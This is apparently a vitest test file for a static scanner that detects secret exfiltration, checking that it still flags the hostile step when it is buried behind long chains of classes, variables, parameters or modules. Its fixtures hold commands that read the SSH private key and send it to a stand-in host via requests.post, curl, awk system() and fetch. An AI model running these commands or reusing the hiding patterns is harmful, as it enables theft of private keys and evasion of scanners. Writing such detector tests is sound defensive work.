import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';

const KEY = "open('/root/.ssh/id_rsa').read()";
const SENT = (value: string): string => `requests.post('https://collect.example.invalid/in', data=${value})`;
const UPLOAD = 'curl -s -F f=@$HOME/.ssh/id_rsa https://collect.example.invalid/in';

/** `many(n, …)`: as much harmless text of the same kind. */
function many(count: number, text: (at: number) => string, between = ''): string {
  return Array.from({ length: count }, (_, at) => text(at)).join(between);
}

type Files = Readonly<Record<string, string>>;

/** What matters stands behind much else of its kind. */
const CASES: Readonly<Record<string, (count: number) => Files>> = {
  'the last of many bases': (count) => ({
    'a.py': `import requests\n${many(count, (at) => `class B${at}:\n    x${at} = ${at}\n`)}class Sender:\n    def go(self, data):\n        ${SENT('data')}\nclass All(${many(count, (at) => `B${at}`, ', ')}, Sender):\n    pass\nAll().go(${KEY})\n`,
  }),
  'the first of a long line of classes': (count) => ({
    'a.py': `import requests\nclass C0:\n    def go(self, data):\n        ${SENT('data')}\n${many(count, (at) => `class C${at + 1}(C${at}):\n    pass\n`)}C${count}().go(${KEY})\n`,
  }),
  'an attribute of the first of a long line': (count) => ({
    'a.py': `import requests\nclass C0:\n    def __init__(self):\n        self.key = ${KEY}\n${many(count, (at) => `class C${at + 1}(C${at}):\n    pass\n`)}class Last(C${count}):\n    def go(self):\n        ${SENT('self.key')}\nLast().go()\n`,
  }),
  'the last of many commands in one of awk': (count) => ({
    'a.sh': `#!/bin/sh\nawk 'BEGIN {${many(count, (at) => `system("echo ${at}");`)} system("${UPLOAD}") }'\n`,
  }),
  'the last of many variables': (count) => ({
    'b.py': `import os, requests\n${many(count * 6, (at) => `x${at} = os.environ['K${at}']\n`)}${SENT("os.environ['LAST']")}\n`,
    'a.sh': `#!/bin/sh\n${many(count * 6, (at) => `export K${at}=1\n`)}export LAST="$(cat ~/.ssh/id_rsa)"\npython3 b.py\n`,
  }),
  'the last of many parameters of a made function': (count) => ({
    'a.js': `const fs = require('fs');\nconst f = new Function(${many(count, (at) => `'a${at}', `)}'z', "fetch('https://collect.example.invalid/in', { method: 'POST', body: z })");\nf(${many(count, () => '1, ')}fs.readFileSync('/root/.ssh/id_rsa', 'utf8'));\n`,
  }),
  'the end of a long line of modules': (count) => ({
    ...Object.fromEntries(
      Array.from({ length: count }, (_, at) => [`m${at}.py`, `from m${at + 1} import key\n`]),
    ),
    [`m${count}.py`]: `def key():\n    return ${KEY}\n`,
    'a.py': `import requests\nfrom m0 import key\n${SENT('key()')}\n`,
  }),
};

async function seen(files: Files): Promise<{ readonly rules: readonly string[]; readonly gaps: string }> {
  const { findings, gaps } = await staticStage.run(targetOf(files), STAGE_CONTEXT);
  return { rules: findings.map(({ ruleId }) => ruleId), gaps: JSON.stringify(gaps) };
}

describe('what stands behind much else of its kind', () => {
  for (const [title, files] of Object.entries(CASES)) {
    it(`is followed: ${title}`, async () => {
      for (const count of [2, 90]) {
        const { rules } = await seen(files(count));
        expect(rules.some((id) => /^(?:secret-file-to-network|secret-upload)/.test(id))).toBe(true);
      }
    });
  }

  it('is said where it is not followed: classes', async () => {
    const files = CASES['the first of a long line of classes']!(1_500);
    expect((await seen(files)).gaps).toMatch(/than (?:are|is) (?:followed|looked through)/);
  });

  it('is said where it is not followed: modules', async () => {
    const files = CASES['the end of a long line of modules']!(400);
    expect((await seen(files)).gaps).toMatch(/deeper than is followed/);
  });
});
